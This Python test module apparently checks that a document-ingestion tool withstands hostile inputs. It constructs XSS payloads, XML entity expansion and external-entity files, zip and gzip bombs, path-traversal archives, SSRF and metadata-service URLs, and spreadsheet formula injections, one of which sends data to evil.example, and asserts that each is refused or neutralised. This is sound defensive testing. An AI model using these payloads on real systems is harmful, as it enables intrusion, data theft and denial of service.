"""Everything hostile in one go beside good documents: these arrive, that is named or harmless, nothing else happens.

The table of inputs, outcomes and limits is docs/hostile.md; each kind has tests of its own as well.
"""

from __future__ import annotations

import csv
import gzip
import html.parser
import json
import os
import re
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Mapping
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from index.store import schema as s
from service.spreadsheet import RUN
from service.wiring import open_home
from tests.fakes import papers
from tests.fakes.site import Answer, Site, page, rss, site
from tests.ingest.test_pdf import HOSTILE as PAPERS

ROOT = Path(__file__).resolve().parents[2]
GOOD = 20
SECONDS = 280.0
MEMORY = 2600
"""MiB that the process, or any it starts, may have at once: the models take 700 of them, a PDF's worker up to 2048."""
SECRET = "the-ministers-own-password"
SCRIPT = "<script>alert(document.domain)</script>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
MANY = "".join(f"--b\nContent-Type: text/plain; name=f{n}.txt\n\n \n" for n in range(1000))
FORMULAS = ("=HYPERLINK(\"http://evil.example?\"&A1,\"open\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\t=1+1",
            "\u200b=1+1", "＝1+1")  # fmt: skip
LINKS = ("javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " \x01javascript:alert(1)",
         "JaVaScRiPt&colon;alert(1)", "&#106;avascript:alert(1)", "javascript&#x3a;alert(1)", "\u2028javascript:x()",
         "data:text/html,<script>x()</script>", "vbscript:x()", "//evil.example/x", "\\\\evil.example\\x")  # fmt: skip


def _bomb_picture() -> bytes:
    """A PNG of a few bytes that claims to be 60,000 by 60,000."""

    def part(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + part(b"IHDR", head) + part(b"IDAT", zlib.compress(bytes(1000))) + part(b"IEND", b"")


def _packed(unit: bytes, size: int) -> bytes:
    """Gzip of so many bytes without holding them."""
    worker = zlib.compressobj(9, wbits=31)
    block = unit * (2**20 // len(unit))
    return b"".join((*(worker.compress(block) for _ in range(size // len(block))), worker.flush()))


def _nested(depth: int) -> bytes:
    inner = papers.archive({"bottom.txt": "x" * 100})
    for n in range(depth):
        inner = papers.archive({f"{n}.zip": inner})
    return inner


def _scripted() -> str:
    """A feed with script in every field and in every form that once ran somewhere."""
    everywhere = SCRIPT.replace("<", "&lt;").replace(">", "&gt;")
    links = "".join(f"<p><a href='{link}'>x</a><b>bold</b></p>" for link in LINKS)
    body = (f"<p>The pier <b>opens</b> on Monday.</p>{SCRIPT}<img src=x onerror=alert(1)><svg/onload=alert(1)>"
            f"<iframe srcdoc='{everywhere}'></iframe><style>@import 'http://evil.example'</style><form action=x>"
            f"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>"
            f"{links}")  # fmt: skip
    return (f"<?xml version='1.0'?><rss version='2.0' xmlns:dc='http://purl.org/dc/elements/1.1/' "
            f"xmlns:media='http://search.yahoo.com/mrss/'><channel><title>{everywhere}Scripted</title>"
            f"<link>javascript:alert(1)</link><description>{everywhere}</description><language>{everywhere}</language>"
            f"<item><guid>{everywhere}1</guid><title>{everywhere}Pier scripted</title><link>{LINKS[1]}</link>"
            f"<dc:creator>{everywhere}</dc:creator><category>{everywhere}</category><author>{everywhere}</author>"
            f"<pubDate>{everywhere}</pubDate><media:thumbnail url='javascript:alert(1)'/>"
            f"<enclosure url='javascript:alert(1)' type='{everywhere}' length='{everywhere}'/>"
            f"<description><![CDATA[{body}]]></description></item></channel></rss>")  # fmt: skip


def _files(secret: Path) -> dict[str, tuple[bytes, str | None]]:
    """Each hostile file by name: its bytes, and the reason it must be refused with; None where it may be read."""
    external = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{secret.as_uri()}">]>'
    tei = "<TEI><text><body><p>&{};</p></body></text></TEI>"
    item = "<rss version='2.0'><channel><item><title>Bombed feed</title><description>&{};</description></item>"
    formulas = "\r\n".join(f'"{n}","{text.replace(chr(34), chr(34) * 2)}","Row {n} of a table about rice."'
                           for n, text in enumerate(FORMULAS))  # fmt: skip
    return {
        "laughs.xml": (f"<!DOCTYPE x [{LAUGHS}]>{tei.format('l11')}".encode(), "declares entities"),
        "external.xml": (f"{external}{tei.format('x')}".encode(), "declares entities"),
        "laughs16.xml": (f"<!DOCTYPE x [{LAUGHS}]>{tei.format('l11')}".encode("utf-16"), "declares entities"),
        "laughs.rss": (f"<!DOCTYPE x [{LAUGHS}]>{item.format('l11')}".encode(), None),
        "external.rss": (f"{external}{item.format('x')}".encode(), None),
        "laughs.opml": (f"<!DOCTYPE x [{LAUGHS}]><opml><body><outline text='&l11;'/></body></opml>".encode(),
                        "entities"),
        "laughs.docx": (papers.replaced(papers.word(["x"]), {
            "word/document.xml": f"<!DOCTYPE x [{LAUGHS}]><w:document xmlns:w='http://schemas.openxmlformats.org/"
                                 "wordprocessingml/2006/main'><w:body><w:p>&l11;</w:p></w:body></w:document>",
        }), "entities"),
        "deep.html": (b"<html><body>" + b"<div><b>" * 100_000 + b"Deep.", None),
        "deep.rss": (b"<rss version='2.0'><channel><item>" + b"<x>" * 200_000, "nested|no feed|no entries|deep"),
        "deep.xml": (b"<TEI><text>" + b"<div>" * 200_000, "."),
        "deep.json": (b"[" * 500_000, "JSON"),
        "page100.html": (b"", "larger than"),  # made sparse
        "bomb.txt.gz": (_packed(b"word ", 2**29), "more than 64 MiB"),
        "bomb.csv.gz": (_packed(b"a,b,c\n", 2**29 + 2**22), "more than 512 MiB"),
        "bomb.zip": (papers.archive({"bomb.txt": bytes(64 * 2**20), "beside.txt": "Beside the bomb."}), "are a bomb"),
        "bomb.xlsx": (papers.replaced(papers.workbook({"a": [["text"], ["x"]]}),
                                      {"xl/worksheets/sheet1.xml": b" " * 300 * 2**20}), "."),
        "nested.zip": (_nested(12), "nested more than"),
        "leads-out.zip": (papers.archive({"../../../escaped.txt": "Escaped.", "in.txt": "Inside the archive."}),
                          "leads out of the folder"),
        "links.tar": (papers.tar({"../escaped.txt": b"Escaped."}), "leads out of the folder"),
        "many.eml": (f"From: a@b.example\nSubject: Many\nContent-Type: multipart/mixed; boundary=b\n\n{MANY}--b--\n"
                     .encode(), "parts"),
        "claims.png": (_bomb_picture(), "."),
        "own-parent.pdf": (PAPERS["pages that are their own children"], "."),
        "draws-itself.pdf": (PAPERS["a form that draws itself"], "."),
        "gigabyte.pdf": (PAPERS["a stream that unpacks to a gigabyte"], "."),
        "deep.rtf": (rb"{\rtf1 " + rb"{\b " * 200_000, None),
        "links.html": (("<html><head><title>Links</title></head><body>" + "".join(
            f"<p>A <b>link</b> <a href='{link}' onclick='x()'>here</a></p>" for link in LINKS)).encode(), None),
        "formulas.csv": (f"id,title,text\r\n{formulas}\r\n".encode(), None),
        "line.txt": (b"Long lines. " + b"a-" * 40_000 + b" " * 40_000 + b"1." * 20_000 + b"\xc3", None),
        "zeros.bin": (bytes(5000), "no kind that can be read"),
        "invisible.txt": ("\u200b\u202e\ufeff\u2060 \n".encode(), "no text"),
        "cod\u202etxt.exe \x1b[2J.txt": (b"A name that turns around.", None),
        "up..%2f..%2fescaped.txt": (b"A name that looks like a way out.", None),
        "lists.opml": (b"<opml version='2.0'><body><outline text='a' type='rss' xmlUrl='http://169.254.169.254/latest'/>"
                       b"<outline text='b' type='rss' xmlUrl='http://[::ffff:10.0.0.1]/'/>"
                       b"<outline text='c' type='rss' xmlUrl='file:///etc/passwd'/>"
                       b"<outline text='d' type='rss' xmlUrl='http://2130706434/'/></body></opml>", None),
    }  # fmt: skip


REFUSED_ADDRESSES = ("http://169.254.169.254/latest", "http://[::ffff:10.0.0.1]/", "http://2130706434/")


def _serve(web: Site) -> dict[str, str | None]:
    """Each hostile address: the reason it must fail with; None where it may be read."""

    def moved(there: str) -> Answer:
        return Answer(status=302, headers={"location": there})

    bomb = gzip.compress(bytes(40_000_000))
    web.pages |= {
        "/scripted.rss": Answer(_scripted(), headers={"content-type": "application/rss+xml"}),
        "/silent": Answer(b"x", delay=60),
        "/circle": moved("/circle/2"), "/circle/2": moved("/circle"),
        **{f"/onward/{n}": moved(f"/onward/{n + 1}") for n in range(30)},
        "/bomb": Answer(bomb, headers={"content-encoding": "gzip", "content-type": "text/html"}),
        "/large": Answer(b"<p>word</p>" * (100 * 2**20 // 11), headers={"content-type": "text/html"}, tagged=False),
        "/inward": moved("http://10.1.2.3/"), "/file": moved("file:///etc/passwd"),
        "/metadata": moved("http://169.254.169.254/latest/meta-data/"),
    }  # fmt: skip
    return {
        "/scripted.rss": None, "/silent": "no answer within 20 seconds", "/circle": "redirects in a circle",
        "/onward/0": "redirected more than 5 times", "/bomb": "larger than 15 MiB", "/large": "larger than 15 MiB",
        "/inward": "no public address", "/file": "only http and https", "/metadata": "no public address",
    }  # fmt: skip


def _good(folder: Path, web: Site) -> None:
    """Twenty documents in files of several kinds and in a feed."""
    folder.mkdir()
    told = [
        f"Ferry number {n} sails to port {n} on Monday; the harbour master of pier {n} agreed." for n in range(GOOD)
    ]
    for n in range(11):
        (folder / f"note{n}.txt").write_text(f"Note {n}\n\n{told[n]}\n", "utf-8")
    (folder / "rows.jsonl").write_text("".join(json.dumps({"id": f"g{n}", "title": f"Note {n}", "text": told[n]}) + "\n"
                                               for n in (11, 12, 13)), "utf-8")  # fmt: skip
    (folder / "minutes.docx").write_bytes(papers.word([told[14]]))
    (folder / "paper.pdf").write_bytes(papers.pdf([[told[15]]]))
    (folder / "letter.eml").write_text(
        f"From: a@b.example\nSubject: Note 16\nMessage-ID: <1@b.example>\n\n{told[16]}\n"
    )
    web.pages["/good.rss"] = rss(("g17", told[17]), ("g18", told[18]), ("g19", told[19], f"{web.url}/19"))
    web.pages["/19"] = page(told[19], title="Title of g19")


@dataclass(frozen=True)
class Done:
    """What one run of the command left."""

    summary: Mapping[str, Any]
    home: Path
    work: Path
    expected: Mapping[str, str | None]
    errors: str
    seconds: float
    megabytes: int
    status: int


LAUNCHER = """
import resource, subprocess, sys
status = subprocess.call(sys.argv[2:])
with open(sys.argv[1], "w") as told:
    told.write(f"{status} {resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024}")
"""
"""A process's peak begins with that of the one that started it, which may have been large: a small one starts it."""


def vedette(*args: str, home: Path, cwd: Path) -> tuple[int, str, str, int]:
    """Status, both outputs, and the most memory (MiB) that the command or a process of its own had at once."""
    out, err, told = (home.parent / name for name in ("out.txt", "err.txt", "told.txt"))
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "TMPDIR": str(cwd), "HOME": str(cwd), "COLUMNS": "200"}
    command = [sys.executable, "-c", "from interfaces.cli import main; main()", *args, "--home", str(home)]
    with out.open("wb") as one, err.open("wb") as two:
        subprocess.run([sys.executable, "-c", LAUNCHER, str(told), *command], stdout=one, stderr=two, cwd=cwd,
                       env=environment, check=True)  # fmt: skip
    status, megabytes = map(int, told.read_text().split())
    return status, out.read_text("utf-8"), err.read_text("utf-8"), megabytes


@pytest.fixture(scope="module")
def done(tmp_path_factory: pytest.TempPathFactory) -> Done:
    tmp = tmp_path_factory.mktemp("hostile")
    hostile, work = tmp / "in" / "hostile", tmp / "work"
    hostile.mkdir(parents=True)
    work.mkdir()
    secret = tmp / "secret.txt"
    secret.write_text(SECRET)
    expected: dict[str, str | None] = {}
    for name, (data, reason) in _files(secret).items():
        (hostile / name).write_bytes(data)
        expected[name] = reason
    os.truncate(hostile / "page100.html", 100 * 2**20)
    os.mkfifo(hostile / "pipe.txt")
    expected["pipe.txt"] = "neither a file nor a folder"
    (hostile / "nowhere.txt").symlink_to(tmp / "not-there")
    expected["nowhere.txt"] = "a link to nothing"
    (hostile / "circle").symlink_to(hostile)
    expected |= dict.fromkeys(REFUSED_ADDRESSES, "no public address")
    with site() as web:
        _good(tmp / "in" / "good", web)
        served = _serve(web)
        expected |= served
        addresses = [f"{web.url}{path}" for path in ("/good.rss", *served)]
        started = time.monotonic()
        status, out, err, megabytes = vedette(
            "ingest", str(tmp / "in"), *addresses, "--allow-host", "127.0.0.1", "--json", home=tmp / "home", cwd=work
        )
        seconds = time.monotonic() - started
    assert out, err
    return Done(json.loads(out), tmp / "home", work, expected, err, seconds, megabytes, status)


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_the_run_ends_in_time_and_memory_with_status_one(done: Done) -> None:
    assert done.status == 1
    assert done.seconds < SECONDS
    assert done.megabytes < MEMORY
    assert "Traceback" not in done.errors
    assert "\x1b[2J" not in done.errors


@pytest.mark.slow
def test_every_hostile_input_is_named_with_stage_and_reason_or_was_harmless(done: Done) -> None:
    failures = done.summary["failures"]
    assert all(one["stage"] in ("fetch", "parse") and one["error"].strip() and one["item"] for one in failures)
    with closing(open_home(done.home)) as home, home.read() as c:
        items = [row.item for row in c.execute(select(s.documents.c.item))]
    for name, reason in done.expected.items():
        told = [one["error"] for one in failures if name in one["item"]]
        if reason is not None:
            assert any(re.search(reason, error) for error in told), (name, reason, told)
        elif name not in ("lists.opml", "/scripted.rss"):  # named by the addresses in it, and by its entry's own
            assert told or any(name.replace("\x1b", "") in item for item in items), name
    hostile = {one["item"] for one in failures}
    assert not [item for item in hostile if "/good/" in item or "good.rss" in item]
    assert not [one for one in failures if one["error"].startswith("could not be read")], "something was not foreseen"


@pytest.mark.slow
def test_the_good_documents_arrive_and_can_be_found_and_shown(done: Done) -> None:
    with closing(open_home(done.home)) as home, home.read() as c:
        texts = [row.text for row in c.execute(select(s.versions.c.text))]
    assert [sum(f"Ferry number {n} sails" in text for text in texts) for n in range(GOOD)] == [1] * GOOD
    status, out, _, _ = vedette("search", "ferry to port 17 harbour master", "--json", home=done.home, cwd=done.work)
    assert status == 0
    hits = json.loads(out)["hits"]
    assert "Ferry number" in hits[0]["text"]
    for hit in hits:
        status, out, _, _ = vedette("show", hit["document_id"], "--json", home=done.home, cwd=done.work)
        assert status == 0
        assert json.loads(out)["versions"]
        break
    assert vedette("stories", "--json", home=done.home, cwd=done.work)[0] == 0


class _Seen(html.parser.HTMLParser):
    """The tags and attributes of markup as a parser finds them."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, attrs))


@pytest.mark.slow
def test_nothing_that_is_kept_runs_or_tells_what_it_should_not(done: Done) -> None:
    with closing(open_home(done.home)) as home, home.read() as c:
        rows = list(c.execute(select(s.versions)))
        everything = [str(value) for table in s.metadata.sorted_tables for row in c.execute(select(table))
                      for value in row if isinstance(value, str)]  # fmt: skip
        addresses = [url for table in (s.documents, s.carried) for (url,) in c.execute(select(table.c.url)) if url]
    marked = [row.html for row in rows if row.html]
    assert any("opens" in one for one in marked)
    assert "Pier scripted" in [row.title for row in rows]
    for one in marked:
        seen = _Seen()
        seen.feed(one)
        for tag, attributes in seen.found:
            assert tag not in ("script", "style", "iframe", "object", "embed", "form", "svg", "math", "img", "base")
            for name, value in attributes:
                assert name in ("href", "rel", "colspan", "rowspan"), one
                assert name != "href" or re.match(r"(?:https?://|mailto:)", value or ""), one
    assert not [url for url in addresses if not url.startswith(("http://", "https://"))]
    assert not [row.title for row in rows if "<script" in row.title.lower()]
    assert not [text for text in everything if SECRET in text or "root:x:" in text]
    assert not [row.text[:80] for row in rows if "hahahahahahahahaha" in row.text]


@pytest.mark.slow
def test_nothing_is_written_outside_the_home(done: Done) -> None:
    around = done.home.parent
    assert {path.name for path in around.iterdir()} == {
        "in",
        "work",
        "home",
        "secret.txt",
        "out.txt",
        "err.txt",
        "told.txt",
    }
    assert not list(done.work.rglob("*"))
    assert not [path for path in around.rglob("*escaped*") if path.name != "up..%2f..%2fescaped.txt"]
    assert not [path for path in done.home.rglob("*") if path.is_symlink()]


@pytest.mark.slow
def test_an_export_for_a_spreadsheet_has_no_live_formula(done: Done) -> None:
    folder = done.home.parent / "home" / "sheet"
    assert vedette("export", str(folder), "--format", "csv", home=done.home, cwd=done.work)[0] == 0
    with (folder / "documents.csv").open(encoding="utf-8-sig", newline="") as handle:
        csv.field_size_limit(2**31 - 1)
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell.lstrip().startswith(RUN)]


@pytest.mark.slow
def test_the_archives_good_members_are_read_beside_the_bad(done: Done) -> None:
    with closing(open_home(done.home)) as home, home.read() as c:
        texts = [row.text for row in c.execute(select(s.versions.c.text))]
    assert {"Beside the bomb.", "Inside the archive."} <= set(texts)
    assert not [text for text in texts if text == "Escaped."]
    with zipfile.ZipFile(done.home.parent / "in" / "hostile" / "leads-out.zip") as made:
        assert "../../../escaped.txt" in made.namelist()
